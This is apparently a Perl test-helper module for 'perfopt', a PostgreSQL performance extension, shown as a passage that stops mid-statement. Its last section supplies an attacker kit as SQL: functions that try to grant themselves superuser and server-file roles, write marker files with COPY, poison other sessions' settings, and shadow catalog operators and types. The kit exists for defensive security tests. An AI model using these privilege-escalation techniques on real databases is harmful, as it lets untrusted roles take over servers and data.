# PerfoptTest.pm — small helpers shared by perfopt's TAP tests (test/t/).
#
# Builds nodes with perfopt preloaded and short intervals, reads perfopt's
# JSON answers, waits for samples, and inspects the server log.  Only
# helpers: every assertion is made in the test files.
package PerfoptTest;

use strict;
use warnings;

use Exporter 'import';
use File::Path qw(make_path);
use IPC::Run ();
use JSON::PP ();

# PostgreSQL::Test::Utils creates $TESTDIR/tmp_check with a plain mkdir in
# its INIT block, so $TESTDIR itself must exist; this BEGIN runs before it.
BEGIN { make_path($ENV{TESTDIR}) if $ENV{TESTDIR} && !-d $ENV{TESTDIR}; }
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use Time::HiRes qw(time usleep);

our @EXPORT = qw(
  perfopt_node
  query_json
  perfopt_status
  samples_taken
  poll_until
  wait_until_accepting
  wait_for_samples
  wait_until_flat
  log_since
  log_count
  perfopt_problem_lines
  run_statements
  pgbench_script
  set_value_sample_rate
  advisor_recommendations
  index_shape
  plan_index_names
  plan_total_cost
  generic_plan
  generic_plan_costs
  param_count
  limit_node_memory
  shop_schema_sql
  httpd_hash_token
);

# Limit for every wait: a failing wait should fail the test, not hang it.
our $WAIT_SECONDS = 60;

# A node (not started) with perfopt preloaded and short intervals.
#   interval          perfopt.monitoring_interval in ms (default 200)
#   history_interval  perfopt.history_interval in s (default 1)
#   alert_dwell       perfopt.alert_dwell in s (default 0: hysteresis in samples)
#   preload           shared_preload_libraries (default pg_stat_statements,perfopt);
#                     under test/run.sh (PERFOPT_SQLCHECK set) perfopt_sqlcheck
#                     joins when perfopt is preloaded, to report unqualified
#                     names in perfopt's own SQL (test/sqlcheck)
#   allows_streaming  passed to init
#   init_extra        more initdb arguments (e.g. ['--waldir', $dir])
#   conf              extra postgresql.conf text
sub perfopt_node
{
	my ($name, %p) = @_;
	my $node = PostgreSQL::Test::Cluster->new($name);

	# UTF8 so that non-ASCII database names are valid label values
	$node->init(
		allows_streaming => $p{allows_streaming} // 0,
		extra => [ '--encoding=UTF8', '--locale=C', @{ $p{init_extra} // [] } ]);

	my $preload = $p{preload} // 'pg_stat_statements,perfopt';
	$preload .= ',perfopt_sqlcheck'
	  if $ENV{PERFOPT_SQLCHECK} && $preload =~ /\bperfopt\b/;
	my $conf = "shared_preload_libraries = '$preload'\n";
	if ($preload =~ /perfopt/)
	{
		$conf .= "perfopt.monitoring_interval = " . ($p{interval} // 200) . "\n";
		$conf .= "perfopt.history_interval = " . ($p{history_interval} // 1) . "\n";
		# alerts in samples, not minutes: a test that needs the dwell time
		# sets it (145)
		$conf .= "perfopt.alert_dwell = " . ($p{alert_dwell} // 0) . "\n";
		# no value samples unless a test asks (its conf comes later and
		# wins): the advisor's answers must not depend on which executions
		# a 1% draw took (100, 104, 170 and 171 sample on purpose)
		$conf .= "perfopt.value_sample_rate = 0\n";
	}
	$conf .= $p{conf} if defined $p{conf};
	$node->append_conf('postgresql.conf', $conf);
	return $node;
}

# Run a query that returns one jsonb value and decode it.
sub query_json
{
	my ($node, $db, $sql) = @_;
	my $out = $node->safe_psql($db, $sql);
	return JSON::PP::decode_json($out);
}

sub perfopt_status
{
	my ($node, $db) = @_;
	return query_json($node, $db // 'postgres', 'SELECT perfopt_status()');
}

sub samples_taken
{
	my ($node, $db) = @_;
	return $node->safe_psql($db // 'postgres',
		"SELECT (perfopt_status()->>'samples_taken')::bigint");
}

# Call $check every 100 ms until it returns true or $timeout seconds pass.
# Returns the elapsed seconds on success, undef on timeout.
# After a crash restart: wait until the server accepts connections, asking
# pg_isready (no stdin).  poll_query_until writes its query to psql's stdin,
# and a psql refused while the server still recovers exits before reading
# it: IPC::Run then dies of the broken pipe (121 did, on a busy machine).
sub wait_until_accepting
{
	my ($node, $timeout) = @_;
	return poll_until(
		sub {
			system('pg_isready', '-q', '-h', $node->host, '-p', $node->port) == 0;
		},
		$timeout);
}

sub poll_until
{
	my ($check, $timeout) = @_;
	$timeout //= $WAIT_SECONDS;
	my $start = time;
	while (1)
	{
		return time - $start if $check->();
		return undef if time - $start > $timeout;
		usleep(100_000);
	}
}

# Wait until samples_taken reaches $n; returns the elapsed seconds or undef.
sub wait_for_samples
{
	my ($node, $n, $db, $timeout) = @_;
	return poll_until(sub { samples_taken($node, $db) >= $n }, $timeout);
}

# Wait until samples_taken stays the same over $window seconds (the worker
# has stopped sampling); returns the settled value or undef on timeout.
sub wait_until_flat
{
	my ($node, $window, $db) = @_;
	my $settled;
	my $ok = poll_until(
		sub {
			my $a = samples_taken($node, $db);
			usleep($window * 1_000_000);
			my $b = samples_taken($node, $db);
			$settled = $b;
			return $a == $b;
		});
	return defined $ok ? $settled : undef;
}

# The server log from byte $offset on.
sub log_since
{
	my ($node, $offset) = @_;
	return slurp_file($node->logfile, $offset // 0);
}

# Lines of the log (from $offset) that match $re.
sub log_count
{
	my ($node, $re, $offset) = @_;
	my @lines = grep { /$re/ } split /\n/, log_since($node, $offset);
	return scalar @lines;
}

# Log lines that show a problem in perfopt: WARNING/ERROR/FATAL/PANIC lines
# of a perfopt worker process (its pids are read from the log), other
# ERROR/FATAL/PANIC lines that mention perfopt or whose statement does,
# perfopt's own "... failed" reports, a worker exiting with a non-zero code,
# and any crash.  Lines matching one of @$expected are left out.
sub perfopt_problem_lines
{
	my ($node, $offset, $expected) = @_;
	my @lines = split /\n/, log_since($node, $offset);
	my %worker_pid;
	for (@lines)
	{
		$worker_pid{$1} = 1 if /\[(\d+)\] LOG:  perfopt worker started/;
		$worker_pid{$1} = 1 if /background worker "perfopt worker" \(PID (\d+)\)/;
	}
	my @bad;
	for my $i (0 .. $#lines)
	{
		my $l = $lines[$i];
		my $problem = 0;
		if ($l =~ /\[(\d+)\] .*?\b(?:WARNING|ERROR|FATAL|PANIC):/)
		{
			$problem = 1 if $worker_pid{$1};
		}
		if ($l =~ /\b(?:ERROR|FATAL|PANIC):/)
		{
			$problem = 1 if $l =~ /perfopt/;
			$problem = 1
			  if $i < $#lines
			  && $lines[ $i + 1 ] =~ /\bSTATEMENT:.*perfopt/;
		}
		$problem = 1 if $l =~ /perfopt: [\w ]+ failed/;
		$problem = 1 if $l =~ /background worker "perfopt worker" .* exited with exit code [1-9]/;
		$problem = 1 if $l =~ /\bPANIC:|TRAP:|terminated by signal/;
		next unless $problem;
		next if grep { $l =~ $_ } @{ $expected // [] };
		push @bad, $l;
	}
	return @bad;
}

# ---- index advisor helpers (test/t/100_advisor_*.pl) ----

# Run each statement of @$stmts as its own top-level statement (so that
# pg_stat_statements records it with track = top), in one psql session,
# output discarded.  $prefix: SQL run first in that session (SET ROLE ...).
sub run_statements
{
	my ($node, $db, $stmts, $prefix) = @_;
	my $sql = "\\o /dev/null\n" . ($prefix // '');
	$sql .= "$_;\n" for @$stmts;
	$node->safe_psql($db, $sql);
	return;
}

# Run pgbench's script $script $n times in one client over protocol $mode
# (simple, extended, prepared); one ok() for it, true when all ran.
sub pgbench_script
{
	my ($node, $db, $mode, $script, $n) = @_;
	my ($out, $err);
	my $ok = IPC::Run::run(
		[ 'pgbench', '-n', '-M', $mode, '-c', '1', '-t', $n, '-f', $script,
		  '-h', $node->host, '-p', $node->port, $db ],
		'>', \$out, '2>', \$err);
	return ok($ok && $out =~ m{number of transactions actually processed: $n/$n},
		"pgbench -M $mode $script: $n runs")
	  || diag "$out\n$err";
}

# perfopt.value_sample_rate = $rate through ALTER SYSTEM and a reload,
# waited for
sub set_value_sample_rate
{
	my ($node, $db, $rate) = @_;
	$node->safe_psql($db, "ALTER SYSTEM SET perfopt.value_sample_rate = $rate; SELECT pg_reload_conf()");
	poll_until(sub { $node->safe_psql($db, 'SHOW perfopt.value_sample_rate') eq $rate }, 30)
	  or die "perfopt.value_sample_rate did not become $rate";
	return;
}

# perfopt_recommendations as a list of hashes (columns by name; statements
# decoded), ordered by id; only those of $kind (create_index, drop_index,
# reindex) when given.
sub advisor_recommendations
{
	my ($node, $db, $kind) = @_;
	my $where = defined $kind ? "WHERE r.kind = '$kind'" : '';
	return @{
		query_json($node, $db,
			"SELECT coalesce(jsonb_agg(to_jsonb(r) ORDER BY r.id), '[]') FROM perfopt_recommendations r $where"
		)
	};
}

# split "a, (f(b, c)), d" on top-level commas
sub _split_columns
{
	my ($list) = @_;
	my (@cols, $cur, $depth, $quote);
	$cur = '';
	$depth = 0;
	for my $ch (split //, $list)
	{
		if ($quote)
		{
			$quote = 0 if $ch eq $quote;
		}
		elsif ($ch eq "'" || $ch eq '"') { $quote = $ch; }
		elsif ($ch eq '(') { $depth++; }
		elsif ($ch eq ')') { $depth--; }
		elsif ($ch eq ',' && $depth == 0)
		{
			push @cols, $cur;
			$cur = '';
			next;
		}
		$cur .= $ch;
	}
	push @cols, $cur if $cur ne '';
	for (@cols)
	{
		s/^\s+|\s+$//g;
		# CREATE INDEX's parentheses around an expression column
		s/^\((.*)\)$/$1/ if /^\(/ && _balanced(substr($_, 1, -1));
	}
	return @cols;
}

sub _balanced
{
	my ($s) = @_;
	my $d = 0;
	for my $ch (split //, $s)
	{
		$d++ if $ch eq '(';
		$d-- if $ch eq ')';
		return 0 if $d < 0;
	}
	return $d == 0;
}

# What an index definition indexes, without names or schema:
# "ON public.orders USING btree (status, created_at)" -> "orders(status, created_at)";
# "... USING gin ((to_tsvector(...)))" -> "t USING gin(to_tsvector(...))";
# INCLUDE columns follow as " INCLUDE (a, b)", a partial index's predicate
# as " WHERE (...)" as written.  Accepts a definition, a CREATE INDEX
# statement or pg_get_indexdef() output.
sub index_shape
{
	my ($def) = @_;
	my $where = '';
	$def =~ s/^\s*CREATE\s+(?:UNIQUE\s+)?INDEX\s+(?:CONCURRENTLY\s+)?(?:\S+\s+)?(?=ON\s)//i;
	# the predicate follows the last column list's ")" (a quoted ")" aside)
	$where = $1 if $def =~ s/\)(\s+WHERE\s+.*)$/)/si;
	$def =~ /^ON\s+(?:ONLY\s+)?(?:\S+\.)?("?[^\s"]+"?)\s+USING\s+(\w+)\s*\((.*)$/si
	  or return $def . $where;
	my ($table, $am, $rest) = ($1, lc $2, $3);
	my ($keys, $include) = ($rest, undef);
	if ($rest =~ /^(.*)\)\s+INCLUDE\s+\((.*)\)\s*$/si)
	{
		($keys, $include) = ($1, $2);
	}
	else
	{
		$keys =~ s/\)\s*$//;
	}
	my $shape = $table . ($am eq 'btree' ? '' : " USING $am") . '('
	  . join(', ', _split_columns($keys)) . ')';
	$shape .= ' INCLUDE (' . join(', ', _split_columns($include)) . ')'
	  if defined $include;
	$shape =~ s/\s+/ /g;
	return $shape . $where;
}

# every "Index Name" in an EXPLAIN (FORMAT JSON) plan (decoded)
sub plan_index_names
{
	my ($node) = @_;
	my @names;
	if (ref $node eq 'ARRAY')
	{
		push @names, plan_index_names($_) for @$node;
	}
	elsif (ref $node eq 'HASH')
	{
		push @names, $node->{'Index Name'} if defined $node->{'Index Name'};
		push @names, plan_index_names($node->{Plan}) if $node->{Plan};
		push @names, plan_index_names($node->{Plans}) if $node->{Plans};
	}
	return @names;
}

# the top plan node's "Total Cost" of an EXPLAIN (FORMAT JSON) (decoded)
sub plan_total_cost
{
	my ($explain) = @_;
	return $explain->[0]{Plan}{'Total Cost'};
}

# the highest $n in a normalized statement text (outside quotes)
sub param_count
{
	my ($text) = @_;
	(my $t = $text) =~ s/'(?:[^']|'')*'//g;
	my $max = 0;
	while ($t =~ /\$(\d+)/g) { $max = $1 if $1 > $max; }
	return $max;
}

# The generic plan of a normalized statement text ($n parameters), as the
# advisor plans it: PREPAREd (parameter types inferred), plan_cache_mode =
# force_generic_plan, no parallel workers, EXECUTEd with NULLs.  $setup:
# SQL run first in the same session (hypopg_create_index(), SET ...), so
# it is in place when the statement is prepared.  Returns the decoded
# EXPLAIN (FORMAT JSON), or undef and the error when PREPARE fails.
sub generic_plan
{
	my ($node, $db, $text, $setup) = @_;
	my $n = param_count($text);
	my $args = $n ? '(' . join(', ', ('NULL') x $n) . ')' : '';
	my $sql = "SET max_parallel_workers_per_gather = 0;\n"
	  . "SET plan_cache_mode = force_generic_plan;\n"
	  . "\\o /dev/null\n" . ($setup // '') . "\\o\n"
	  . "PREPARE perfopt_test_stmt AS $text;\n"
	  . "EXPLAIN (FORMAT JSON) EXECUTE perfopt_test_stmt$args;\n";
	my ($ret, $out, $err) = $node->psql($db, $sql, on_error_stop => 1);
	return (undef, $err) if $ret != 0;
	return JSON::PP::decode_json($out);
}

# The generic plans' total costs of many statement texts in one session,
# as generic_plan() plans each, after $setup; dies when one fails.
sub generic_plan_costs
{
	my ($node, $db, $setup, @texts) = @_;
	my $sql = "SET max_parallel_workers_per_gather = 0;\n"
	  . "SET plan_cache_mode = force_generic_plan;\n"
	  . "\\o /dev/null\n" . ($setup // '') . "\\o\n";
	for my $i (0 .. $#texts)
	{
		my $n = param_count($texts[$i]);
		my $args = $n ? '(' . join(', ', ('NULL') x $n) . ')' : '';
		$sql .= "PREPARE perfopt_test_stmt$i AS $texts[$i];\n"
		  . "EXPLAIN (FORMAT JSON) EXECUTE perfopt_test_stmt$i$args;\n";
	}
	my $out = $node->safe_psql($db, $sql);
	my @plans = map { JSON::PP::decode_json($_) } ($out =~ /^(\[\n.*?^\])$/msg);
	die 'generic_plan_costs: ' . scalar(@plans) . ' plans for ' . scalar(@texts) . ' statements'
	  unless @plans == @texts;
	return map { plan_total_cost($_) } @plans;
}

# Cap the address space of $node's postmaster (inherited by the backends
# it forks from now on) at $bytes with prlimit(1), so that a runaway
# backend fails with "out of memory" instead of waking the kernel's OOM
# killer on the test machine.  Returns false when prlimit is missing.
sub limit_node_memory
{
	my ($node, $bytes) = @_;
	my $pid = $node->{_pid} or return 0;
	return 0 unless grep { -x "$_/prlimit" } split /:/, ($ENV{PATH} // '') . ':/usr/bin:/bin';
	return system('prlimit', '--pid', $pid, "--as=$bytes:$bytes") == 0;
}

# The advisor tests' shop, deterministic data (no random()):
#   customers 100k rows (13 MB): unique email, created_at every 7 minutes
#     (follows the heap), active true for half of the rows;
#   orders 200k rows (18 MB): customer_id and created_at scrambled
#     (g * prime mod n: they do not follow the heap, so an index scan on
#     them visits a heap page per row), status 5 values, ref_code unique;
#   events 100k rows (10 MB) with an index on (account_id, kind);
#   products 200 rows (16 kB, below perfopt.min_table_size).
# VACUUM ANALYZEd, so index-only scans see an all-visible heap.
sub shop_schema_sql
{
	return q{
CREATE TABLE customers (
    id int PRIMARY KEY,
    email text NOT NULL,
    name text NOT NULL,
    country text NOT NULL,
    active boolean NOT NULL,
    tier int NOT NULL,
    created_at timestamptz NOT NULL,
    note text
);
INSERT INTO customers
SELECT g, 'user' || g || '@example.com', 'Customer ' || g, 'c' || (g % 20), g % 2 = 0, g % 3,
       timestamptz '2024-01-01 00:00:00+00' + g * interval '7 minutes', repeat('x', 40)
FROM generate_series(1, 100000) g;
CREATE TABLE orders (
    id int PRIMARY KEY,
    customer_id int NOT NULL,
    status text NOT NULL,
    created_at timestamptz NOT NULL,
    amount numeric(10,2) NOT NULL,
    ref_code text NOT NULL,
    note text
);
INSERT INTO orders
SELECT g, (g::bigint * 7919) % 100000 + 1,
       (ARRAY['new', 'paid', 'shipped', 'done', 'cancelled'])[g % 5 + 1],
       timestamptz '2024-01-01 00:00:00+00' + ((g::bigint * 7919) % 200000) * interval '3 minutes',
       (g % 1000) + 0.99, 'R' || lpad(((g::bigint * 104729) % 1000003)::text, 7, '0'), repeat('y', 20)
FROM generate_series(1, 200000) g;
CREATE TABLE events (id int PRIMARY KEY, account_id int NOT NULL, kind int NOT NULL, payload text NOT NULL);
INSERT INTO events SELECT g, g % 5000, g % 10, repeat('z', 60) FROM generate_series(1, 100000) g;
CREATE INDEX events_account_kind ON events (account_id, kind);
CREATE TABLE products (id int PRIMARY KEY, sku text NOT NULL, price numeric NOT NULL);
INSERT INTO products SELECT g, 'SKU' || g, g FROM generate_series(1, 200) g;
VACUUM ANALYZE customers, orders, events, products;
};
}

# ---- job runner helpers (test/t/120_jobs_*.pl) ----

push @EXPORT, qw(
  sql_error_state
  job_rows
  lookup_table_sql
  run_lookups
  invalid_perfopt_indexes
  wait_for_job
);

# The SQLSTATE and message of the error that $sql ends with, run by psql
# in a session of its own (\set VERBOSITY verbose); ('', '') when it
# succeeds.
sub sql_error_state
{
	my ($node, $db, $sql) = @_;
	my ($ret, $out, $err) =
	  $node->psql($db, "\\set VERBOSITY verbose\n$sql", on_error_stop => 1);
	return ('', '') if $ret == 0 && $err !~ /\bERROR:/;
	return ($1, $2) if $err =~ /\bERROR:\s+([0-9A-Z]{5}):\s+(.*)/;
	return ('?', $err);
}

# perfopt_jobs rows (hashes by column name), ordered by id; $where: an
# optional SQL condition on j.
sub job_rows
{
	my ($node, $db, $where) = @_;
	$where = defined $where ? "WHERE $where" : '';
	return @{
		query_json($node, $db,
			"SELECT coalesce(jsonb_agg(to_jsonb(j) ORDER BY j.id), '[]') FROM perfopt_jobs j $where")
	};
}

# Wait until job $id satisfies $cond (SQL on perfopt_jobs' columns), at
# most $timeout seconds (default $WAIT_SECONDS); true on success.  On a
# timeout the job row is shown with diag().
sub wait_for_job
{
	my ($node, $db, $id, $cond, $timeout) = @_;
	my $sql = "SELECT coalesce(bool_or($cond), false) FROM perfopt_jobs WHERE id = $id";
	return 1 if defined poll_until(sub { $node->safe_psql($db, $sql) eq 't' }, $timeout);
	diag "job $id: not ($cond) after the wait: ", explain [ job_rows($node, $db, "j.id = $id") ];
	return 0;
}

# A table $name(id bigserial primary key, k int, v int, at timestamptz)
# of $rows rows whose k has $rows/20 values of 20 rows each, spread over
# the heap; VACUUM ANALYZEd.  "WHERE k = c" finds 20 rows with a
# sequential scan: the advisor recommends an index on (k).  $with: the
# table's WITH (...) options, if any.  The INSERT's statistics are flushed
# before the VACUUM ANALYZE, so that the table does not look changed since
# its ANALYZE (perfopt_optimize() would queue an ANALYZE of it).
sub lookup_table_sql
{
	my ($name, $rows, $with) = @_;
	my $distinct = int($rows / 20) || 1;
	$with = defined $with ? " WITH ($with)" : '';
	return qq{
CREATE TABLE $name (id bigserial PRIMARY KEY, k int NOT NULL, v int NOT NULL DEFAULT 0,
                    at timestamptz NOT NULL DEFAULT clock_timestamp())$with;
INSERT INTO $name (k, at)
SELECT (g::bigint * 7919) % $distinct, timestamptz '2024-01-01' FROM generate_series(1, $rows) g;
SELECT pg_stat_force_next_flush();
VACUUM ANALYZE $name;
};
}

# $n top-level lookups "SELECT * FROM $table WHERE $column = <i>", in one
# session (see run_statements).
sub run_lookups
{
	my ($node, $db, $table, $column, $n) = @_;
	run_statements($node, $db, [ map { "SELECT * FROM $table WHERE $column = $_" } 1 .. $n ]);
	return;
}

# The INVALID indexes named perfopt_% (schema-qualified and quoted, as
# in perfopt_jobs.index_name), sorted, joined by ", "; '' when none.
sub invalid_perfopt_indexes
{
	my ($node, $db) = @_;
	return $node->safe_psql($db,
		"SELECT coalesce(string_agg(x.name, ', ' ORDER BY x.name), '') FROM"
		  . " (SELECT quote_ident(n.nspname) || '.' || quote_ident(c.relname) AS name"
		  . ' FROM pg_index i JOIN pg_class c ON c.oid = i.indexrelid'
		  . ' JOIN pg_namespace n ON n.oid = c.relnamespace'
		  . " WHERE NOT i.indisvalid AND c.relname LIKE 'perfopt\\_%') x");
}

# The token file's hash of a token, as perfopt-httpd --hash-token prints it.
sub httpd_hash_token
{
	my ($bin, $token) = @_;
	my ($out, $err);
	IPC::Run::run([ $bin, '--hash-token' ], '<', \$token, '>', \$out, '2>', \$err) or die "hash: $err";
	chomp $out;
	return $out;
}

# ---- perfopt-httpd helpers (test/t/14x, 15x) ----

push @EXPORT, qw(
  httpd_bin
  httpd_start
  httpd_stop
);

# The shim a test runs: $ENV{PERFOPT_HTTPD} (151's sanitized build, 152's
# valgrind wrapper) or the one installed next to $node's pg_ctl.
sub httpd_bin
{
	my ($node) = @_;
	return $ENV{PERFOPT_HTTPD} // $node->config_data('--bindir') . '/perfopt-httpd';
}

# Start perfopt-httpd for $node on a free loopback port and wait until its
# log says it listens there.
#   tokens    the token file (required)
#   bin       the program (default httpd_bin($node))
#   conninfo  default: $node's host and port, dbname $p{dbname} (default
#             postgres), user perfopt_api
#   name      names the log: <basedir>/httpd_<name>.log (default httpd.log)
#   log       the file its stderr is appended to, instead
#   args      more arguments (['--pool', '2', ...])
#   timeout   seconds to wait (default $WAIT_SECONDS)
# Returns { h => the IPC::Run harness, port, address => "127.0.0.1:port",
# base => "http://127.0.0.1:port", log, up => the seconds it took to
# listen, undef when it did not }: the test asserts on up.
sub httpd_start
{
	my ($node, %p) = @_;
	die 'httpd_start: no token file' unless defined $p{tokens};
	my $port = PostgreSQL::Test::Cluster::get_free_port();
	my $address = "127.0.0.1:$port";
	my $log = $p{log} // $node->basedir . (defined $p{name} ? "/httpd_$p{name}.log" : '/httpd.log');
	my $conninfo = $p{conninfo}
	  // 'host=' . $node->host . ' port=' . $node->port . ' dbname=' . ($p{dbname} // 'postgres') . ' user=perfopt_api';
	my $h = IPC::Run::start(
		[ $p{bin} // httpd_bin($node), '--listen', $address, '--conninfo', $conninfo, '--tokens', $p{tokens},
		  @{ $p{args} // [] } ],
		'>', '/dev/null', '2>>', $log);
	my $up = poll_until(sub { -f $log && slurp_file($log) =~ /"event": "listening", "address": "\Q$address\E"/ },
		$p{timeout});
	return { h => $h, port => $port, address => $address, base => "http://$address", log => $log, up => $up };
}

# SIGTERM a shim of httpd_start and wait until it exits: true when its
# exit status is 0 (the harness's full_result says how it ended).
sub httpd_stop
{
	my ($shim) = @_;
	$shim->{h}->signal('TERM');
	return $shim->{h}->finish;
}

# ---- attacker helpers (test/t/180_attacker_*.pl) ----
#
# An ordinary LOGIN role "attacker" that owns schema attacker and nothing
# else writes code that perfopt may run: functions the planner folds,
# views, policies, index and statistics expressions, operators, types.
# Every piece of it calls attacker.trace(tag), which
#   - logs "attack <tag> ran as <current_user> (session user <session_user>)"
#     (RAISE LOG: the server log keeps it even when the step is rolled
#     back);
#   - tries to escalate: ALTER ROLE attacker SUPERUSER ..., GRANT the
#     current role and the server-file roles to attacker, and COPY a
#     marker file into $evidence_dir (a superuser's COPY is not undone by
#     a rollback);
#   - when it runs in a session that is not the attacker's own (session
#     user not attacker), poisons that session: the settings of
#     attack_poisoned_settings() with set_config(..., false), a temporary
#     view and function named like perfopt's, a prepared statement.
# The tests read the log (attack_runs), the attacker's role
# (attack_role_state), the marker files (attack_evidence) and the
# caller's session (attack_session_sql).

push @EXPORT, qw(
  psql_as
  attack_kit_sql
  attack_runs
  attack_foreign_runs
  attack_role_state
  attack_evidence
  attack_session_sql
  attack_db_role_settings
  attack_poisoned_settings
);

# safe_psql as another role (a connection of its own, -U role)
sub psql_as
{
	my ($node, $db, $role, $sql) = @_;
	return $node->safe_psql($db, $sql, extra_params => [ '-U', $role ]);
}

# the settings attacker.trace() poisons in another role's session, and the
# value it sets them to
sub attack_poisoned_settings
{
	return (
		search_path => 'attacker, pg_catalog, public',
		default_transaction_read_only => 'on',
		statement_timeout => '4321s',
		lock_timeout => '4321s',
		idle_in_transaction_session_timeout => '4321s',
		application_name => 'attacker-poisoned',
		work_mem => '4321kB',
		DateStyle => 'SQL, DMY',
		enable_indexscan => 'off',
		'attacker.marker' => 'poisoned');
}

# SQL to run as the attacker (psql_as ... 'attacker'): attacker.trace(),
# attacker.imm(tag) (IMMUTABLE: the planner folds it when tag is a
# constant, as in a view, policy or index definition; returns 1),
# attacker.stab(tag) (STABLE), attacker.flags (one row, armed: for code
# that misbehaves only once armed), the outside review's operator
# attacker.>(bigint, integer) and attacker.poison(), and objects that
# shadow what perfopt's SQL names: operators, functions, aggregates,
# types (domains) and relations of pg_catalog, tables named like
# perfopt's.  Shadows call trace() and then compute the right answer (a
# stealthy attacker).
sub attack_kit_sql
{
	my ($evidence_dir) = @_;
	my %gucs = attack_poisoned_settings();
	my $poison = join("\n",
		map { "    PERFORM pg_catalog.set_config('$_', '$gucs{$_}', false);" } sort keys %gucs);
	(my $dir = $evidence_dir) =~ s/'/''/g;
	my $sql = <<'SQL';
CREATE TABLE attacker.flags (armed boolean NOT NULL);
INSERT INTO attacker.flags VALUES (false);
CREATE FUNCTION attacker.trace(tag pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE AS $fn$
DECLARE
  me pg_catalog.text := CURRENT_USER;
BEGIN
  RAISE LOG 'attack % ran as % (session user %)', tag, me, SESSION_USER;
  BEGIN
    EXECUTE 'ALTER ROLE attacker SUPERUSER CREATEROLE CREATEDB REPLICATION BYPASSRLS';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('GRANT %I TO attacker', me);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'GRANT pg_execute_server_program, pg_write_server_files, pg_read_server_files, pg_read_all_data TO attacker';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L',
      tag OPERATOR(pg_catalog.||) ' ran as ' OPERATOR(pg_catalog.||) me,
      '@DIR@/escaped-' OPERATOR(pg_catalog.||)
        pg_catalog.regexp_replace(tag, '[^a-zA-Z0-9_-]', '_', 'g') OPERATOR(pg_catalog.||) '-' OPERATOR(pg_catalog.||) me);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  IF SESSION_USER OPERATOR(pg_catalog.<>) 'attacker' THEN
@POISON@
    BEGIN
      EXECUTE 'CREATE TEMPORARY VIEW perfopt_recommendations AS SELECT 1 AS id';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      EXECUTE 'CREATE FUNCTION pg_temp.perfopt_status() RETURNS pg_catalog.jsonb LANGUAGE sql AS ''SELECT NULL::pg_catalog.jsonb''';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      EXECUTE 'PREPARE attacker_prepared AS SELECT 1';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  RETURN true;
END $fn$;
CREATE FUNCTION attacker.imm(tag pg_catalog.text) RETURNS pg_catalog.int8
LANGUAGE plpgsql IMMUTABLE AS $fn$
BEGIN
  PERFORM attacker.trace(tag);
  RETURN 1;
END $fn$;
CREATE FUNCTION attacker.stab(tag pg_catalog.text) RETURNS pg_catalog.int8
LANGUAGE plpgsql STABLE AS $fn$
BEGIN
  PERFORM attacker.trace(tag);
  RETURN 1;
END $fn$;

-- the outside review's exploit, as it was reported
CREATE FUNCTION attacker.gt(pg_catalog.int8, pg_catalog.int4) RETURNS pg_catalog.bool
LANGUAGE plpgsql AS $fn$
BEGIN
  RAISE LOG 'attack operator-gt ran as % (session user %)', CURRENT_USER, SESSION_USER;
  BEGIN
    EXECUTE 'ALTER ROLE attacker SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN $1 OPERATOR(pg_catalog.>) $2;
END $fn$;
CREATE OPERATOR attacker.> (LEFTARG = pg_catalog.int8, RIGHTARG = pg_catalog.int4, FUNCTION = attacker.gt);
CREATE FUNCTION attacker.poison() RETURNS pg_catalog.int8
LANGUAGE plpgsql IMMUTABLE AS $fn$
BEGIN
  RAISE LOG 'attack poison ran as % (session user %)', CURRENT_USER, SESSION_USER;
  PERFORM pg_catalog.set_config('search_path', 'attacker, pg_catalog', false);
  RETURN 5;
END $fn$;

-- shadows of what perfopt's SQL names
DO $do$
DECLARE
  t pg_catalog.text;
  op pg_catalog.text;
  n pg_catalog.int4 := 0;
BEGIN
  FOREACH t IN ARRAY ARRAY['int4', 'int8', 'text', 'oid', 'float8', 'numeric', 'timestamptz', 'name', 'bool'] LOOP
    FOREACH op IN ARRAY ARRAY['=', '<>', '<', '>', '<=', '>='] LOOP
      n := n OPERATOR(pg_catalog.+) 1;
      EXECUTE pg_catalog.format('CREATE FUNCTION attacker.shadow_op_%s(a pg_catalog.%s, b pg_catalog.%s) RETURNS pg_catalog.bool'
        ' LANGUAGE sql AS %L', n, t, t,
        pg_catalog.format('SELECT attacker.trace(%L) AND (a OPERATOR(pg_catalog.%s) b)',
                          'shadow-operator-' OPERATOR(pg_catalog.||) t, op));
      EXECUTE pg_catalog.format('CREATE OPERATOR attacker.%s (LEFTARG = pg_catalog.%s, RIGHTARG = pg_catalog.%s,'
        ' FUNCTION = attacker.shadow_op_%s)', op, t, t, n);
    END LOOP;
    EXECUTE pg_catalog.format('CREATE DOMAIN attacker.%1$s AS pg_catalog.%1$s CHECK (attacker.trace(%2$L))',
                              t, 'shadow-type-' OPERATOR(pg_catalog.||) t);
  END LOOP;
  -- the mixed comparisons perfopt's SQL uses (bigint against integer)
  FOREACH op IN ARRAY ARRAY['=', '<>', '<', '<=', '>='] LOOP
    n := n OPERATOR(pg_catalog.+) 1;
    EXECUTE pg_catalog.format('CREATE FUNCTION attacker.shadow_op_%s(a pg_catalog.int8, b pg_catalog.int4) RETURNS pg_catalog.bool'
      ' LANGUAGE sql AS %L', n,
      pg_catalog.format('SELECT attacker.trace(''shadow-operator-int84'') AND (a OPERATOR(pg_catalog.%s) b)', op));
    EXECUTE pg_catalog.format('CREATE OPERATOR attacker.%s (LEFTARG = pg_catalog.int8, RIGHTARG = pg_catalog.int4,'
      ' FUNCTION = attacker.shadow_op_%s)', op, n);
  END LOOP;
  FOREACH t IN ARRAY ARRAY['jsonb', 'regclass', 'interval', 'float4'] LOOP
    EXECUTE pg_catalog.format('CREATE DOMAIN attacker.%1$s AS pg_catalog.%1$s CHECK (attacker.trace(%2$L))',
                              t, 'shadow-type-' OPERATOR(pg_catalog.||) t);
  END LOOP;
END
$do$;
CREATE FUNCTION attacker.shadow_like(a pg_catalog.text, b pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE sql
